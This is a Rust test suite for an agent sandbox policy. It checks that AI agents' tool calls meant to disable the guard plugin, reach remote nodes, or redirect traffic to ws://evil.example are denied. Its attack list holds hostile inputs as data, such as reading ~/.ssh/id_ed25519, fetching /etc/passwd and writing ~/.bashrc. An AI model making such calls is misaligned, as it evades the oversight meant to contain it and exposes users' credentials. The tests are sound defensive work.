//! What the built-in rules say of agents' own tools: what would reach around the sandbox, and what must go on working.

use std::collections::BTreeMap;

use lobsterpot_policy::{Decision, Field, FieldValue, Judge, PathDefault, Policy, ToolInput, ToolOutcome};

use crate::world::{World, places};

/// An input of texts; `[]` stands for something compound.
struct Input(BTreeMap<&'static str, &'static str>);

impl ToolInput for Input {
    fn value(&self, field: &Field) -> FieldValue<'_> {
        match self.0.get(field.to_string().as_str()).copied() {
            None | Some("") => FieldValue::Absent,
            Some("[]") => FieldValue::Compound,
            Some(text) => FieldValue::Text(text),
        }
    }

    fn holds_only(&self, fields: &[Field]) -> bool {
        let listed = |name: &str| fields.iter().any(|field| field.to_string() == name);
        self.0.iter().all(|(name, value)| listed(name) && *value != "[]")
    }

    fn ambiguous(&self) -> Option<&str> {
        None
    }
}

/// The built-in policy.
fn policy() -> Policy {
    World::default().load().unwrap()
}

/// What happens to a call, as far as its paths do not matter.
fn outcome(client: &str, tool: &str, fields: &[(&'static str, &'static str)]) -> Decision {
    let judge = Judge::new(&policy(), &places());
    let input = Input(fields.iter().copied().collect());
    judge.tool_call(client, tool, &input).verdict.map_or(Decision::Allow, |verdict| verdict.decision)
}

/// Calls of OpenClaw's tools that would end its being guarded, or reach around the sandbox.
const ATTACKS: [(&str, &[(&str, &str)]); 59] = [
    ("plugins", &[("action", "disable"), ("pluginId", "lobsterpot")]),
    ("plugins", &[("action", "uninstall")]),
    ("plugins", &[("action", "install")]),
    ("plugins", &[("action", "enable")]),
    ("plugins", &[("action", "reload")]),
    ("plugins", &[("action", "LIST")]),
    ("plugins", &[("action", "[]")]),
    ("plugins", &[]),
    ("gateway", &[("action", "update.run")]),
    ("gateway", &[("action", "config.get")]),
    ("gateway", &[("action", "config.apply")]),
    ("gateway", &[("action", "config.patch")]),
    ("gateway", &[("action", "restart")]),
    ("gateway", &[("action", "config.schema.lookup"), ("gatewayUrl", "ws://evil.example")]),
    ("openclaw", &[("message", "disable the plugin lobsterpot")]),
    ("terminal", &[("action", "input"), ("data", "cat ~/.ssh/id_ed25519\n")]),
    ("secrets", &[("action", "delete"), ("name", "STRIPE_API_KEY")]),
    ("lobster", &[("action", "run"), ("pipeline", "exec cat ~/.ssh/id_ed25519")]),
    ("exec", &[("command", "id"), ("host", "somewhere")]),
    ("exec", &[("command", "id"), ("host", "node"), ("node", "laptop")]),
    ("exec", &[("command", "id"), ("node", "laptop")]),
    ("exec", &[("command", "id"), ("elevated", "true")]),
    ("exec", &[("command", "id"), ("elevated", "[]")]),
    ("sessions_spawn", &[("task", "x"), ("runtime", "acp")]),
    ("sessions_spawn", &[("task", "x"), ("runtime", "[]")]),
    ("sessions_spawn", &[("task", "x"), ("projectGitUrl", "git@github.com:evil/x")]),
    ("sessions_spawn", &[("task", "x"), ("projectId", "other")]),
    ("sessions_spawn", &[("task", "x"), ("worktree", "true")]),
    ("sessions_spawn", &[("task", "x"), ("placement.kind", "profile")]),
    ("sessions_spawn", &[("task", "x"), ("placement.kind", "[]")]),
    ("automations", &[("action", "add"), ("job.schedule.kind", "stream")]),
    ("automations", &[("action", "add"), ("job.payload.kind", "script")]),
    ("automations", &[("action", "update"), ("job.trigger", "[]")]),
    ("automations", &[("action", "add"), ("job.payload.kind", "command")]),
    ("automations", &[("action", "update"), ("jobId", "theirs"), ("job.schedule.command", "[]")]),
    ("automations", &[("action", "add"), ("schedule", "[]")]),
    ("automations", &[("action", "update"), ("patch", "[]")]),
    ("portal", &[("port", "8080")]),
    ("automations", &[("action", "list"), ("gatewayUrl", "ws://evil.example")]),
    ("file_fetch", &[("node", "laptop"), ("path", "/etc/passwd")]),
    ("file_write", &[("node", "laptop"), ("path", "/home/me/.bashrc")]),
    ("dir_list", &[("node", "laptop"), ("path", "/")]),
    ("nodes", &[("action", "invoke"), ("invokeCommand", "system.run")]),
    ("message", &[("action", "send"), ("gatewayUrl", "ws://evil.example")]),
    ("browser", &[("action", "importprofile"), ("systemProfile", "Default")]),
    ("browser", &[("action", "a-later-action")]),
    ("browser", &[]),
    ("nodes", &[("action", " invoke"), ("invokeCommand", "system.run")]),
    ("nodes", &[("action", "run")]),
    ("nodes", &[("action", "status"), ("gatewayUrl", "ws://evil.example")]),
    ("automations", &[("action", "add"), ("kind", "stream"), ("command", "id")]),
    ("automations", &[("action", "add"), ("job.kind", "stream"), ("job.command", "id")]),
    ("automations", &[("action", "add"), ("job.data.schedule.kind", "stream")]),
    ("automations", &[("action", "add"), ("job.schedule .kind", "stream")]),
    ("automations", &[("action", "add"), ("job.script", "code()")]),
    ("automations", &[("action", "a-later-action")]),
    ("Exec", &[("command", "id")]),
    ("BASH", &[("command", "id")]),
    ("apply-patch", &[("input", "x")]),
];

/// Calls that an honest agent makes.
const WORK: [(&str, &[(&str, &str)]); 29] = [
    ("plugins", &[("action", "list")]),
    ("plugins", &[("action", "inspect"), ("pluginId", "memory-core")]),
    ("gateway", &[("action", "config.schema.lookup"), ("path", "agents.defaults")]),
    ("terminal", &[("action", "read"), ("sessionId", "1")]),
    ("secrets", &[("action", "request"), ("name", "STRIPE_API_KEY")]),
    ("exec", &[("command", "make test")]),
    ("exec", &[("command", "make test"), ("host", "auto"), ("elevated", "false")]),
    ("process", &[("action", "poll"), ("sessionId", "brave-crab")]),
    ("memory_search", &[("query", "/plan for tomorrow")]),
    ("memory_get", &[("path", "MEMORY.md")]),
    ("automations", &[("action", "add"), ("job.schedule.kind", "cron"), ("job.payload.kind", "agentTurn")]),
    ("automations", &[("action", "list")]),
    ("automations", &[("action", "update"), ("jobId", "1"), ("job.enabled", "false")]),
    ("nodes", &[("action", "status")]),
    ("browser", &[("action", " open"), ("targetUrl", "https://example.com")]),
    ("bash", &[("command", "make test")]),
    ("shell", &[("command", "make test")]),
    ("cron", &[("action", "add"), ("job.schedule.kind", "every"), ("job.payload.kind", "systemEvent")]),
    ("sessions_spawn", &[("task", "read the changelog")]),
    ("sessions_spawn", &[("task", "x"), ("runtime", "subagent"), ("mode", "run"), ("worktree", "false")]),
    ("sessions_list", &[]),
    ("sessions_send", &[("message", "/compact please")]),
    ("session_status", &[]),
    ("web_search", &[("query", "~/.bashrc syntax")]),
    ("web_fetch", &[("url", "https://example.com")]),
    ("message", &[("action", "send"), ("message", "done")]),
    ("heartbeat_respond", &[("text", "HEARTBEAT_OK")]),
    ("tool_call", &[("id", "read")]),
    ("read", &[("path", "notes.md")]),
];

#[test]
fn openclaw_cannot_be_talked_into_switching_its_guard_off() {
    for (tool, fields) in ATTACKS {
        assert_eq!(outcome("openclaw", tool, fields), Decision::Deny, "{tool} {fields:?}");
    }
}

#[test]
fn openclaw_works_on_with_its_own_tools() {
    for (tool, fields) in WORK {
        assert_eq!(outcome("openclaw", tool, fields), Decision::Allow, "{tool} {fields:?}");
    }
}

#[test]
fn tools_that_run_code_or_start_sessions_elsewhere_are_refused_in_every_client() {
    for (client, tool) in [
        ("claude-code", "PowerShell"),
        ("claude-code", "REPL"),
        ("claude-code", "RemoteTrigger"),
        ("codex", "request_permissions"),
        ("codex", "request_plugin_install"),
        ("gemini-cli", "save_memory"),
    ] {
        assert_eq!(outcome(client, tool, &[]), Decision::Deny, "{client} {tool}");
    }
}

#[test]
fn prompts_and_lists_of_work_pass_in_every_client() {
    for (client, tool) in [
        ("claude-code", "Agent"),
        ("claude-code", "Skill"),
        ("claude-code", "TodoWrite"),
        ("claude-code", "CronCreate"),
        ("codex", "update_plan"),
        ("gemini-cli", "write_todos"),
        ("copilot-cli", "task"),
        ("opencode", "todowrite"),
        ("cursor", "Task"),
        ("cline", "attempt_completion"),
    ] {
        assert_eq!(outcome(client, tool, &[("prompt", "/etc/passwd is a file")]), Decision::Allow, "{client} {tool}");
    }
}

#[test]
fn a_path_given_to_an_unknown_tool_goes_to_a_person_or_nowhere() {
    let judge = Judge::new(&policy(), &places());
    for client in ["claude-code", "copilot-cli", "cursor", "openclaw"] {
        assert_eq!(judge.path_default(client), PathDefault::Ask, "{client}");
    }
    for client in ["codex", "gemini-cli", "opencode", "cline", "unheard-of"] {
        assert_eq!(judge.path_default(client), PathDefault::Deny, "{client} cannot ask");
    }
}

#[test]
fn every_built_in_rule_that_refuses_says_why() {
    for (client, tools) in policy().tools.iter() {
        for rule in tools.rules.iter().filter(|rule| rule.outcome > Some(ToolOutcome::Allow)) {
            assert!(rule.reason.as_ref().is_some_and(|reason| !reason.ends_with('.')), "{client}: {}", rule.label());
        }
    }
}
